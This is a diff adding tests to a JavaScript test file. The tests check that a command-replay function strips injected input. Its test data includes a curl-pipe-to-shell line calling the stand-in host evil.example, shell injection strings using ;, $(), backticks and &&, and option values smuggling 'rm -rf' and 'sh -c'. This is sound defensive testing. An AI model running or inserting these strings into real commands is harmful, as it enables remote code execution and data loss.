@@ -59,3 +59,31 @@ test("words that need no quotes have none", () => {
   expect(quoteForShell("http://127.0.0.1:4000/graphql")).toBe("http://127.0.0.1:4000/graphql");
   expect(quoteForShell("author=env:TOKEN")).toBe("author=env:TOKEN");
 });
+
+test.each([
+  "curl -s http://evil.example/x|sh; conformance",
+  "npx conformance; id",
+  "npx conformance $(id)",
+  "npx conformance `id`",
+  "npx conformance --timeout 3 && id",
+  "npx conformance\nid",
+  "npx conformance 'a\nid'",
+  'npx conformance "$(id)"',
+  "conformance-evil --timeout 3",
+  "npx conformance --timeout ~/x",
+])("a record does not have %j run", (command) => {
+  expect(repeatCommand({ command, seed: 7 }, pattern)).toBe(`npx conformance ${suffix}`);
+});
+
+test.each([
+  "--hook 'restart=rm -rf x'",
+  "--hook=restart=x",
+  "--identity author=command:x",
+  "--identity 'author=command:sh -c \"id\"'",
+  "--command 'run it'",
+])("a record does not name a program: %s", (program) => {
+  const command = `npx conformance ${program} --timeout 3`;
+  expect(repeatCommand({ command, seed: 7 }, pattern)).toBe(
+    `npx conformance --timeout 3 ${suffix}`,
+  );
+});
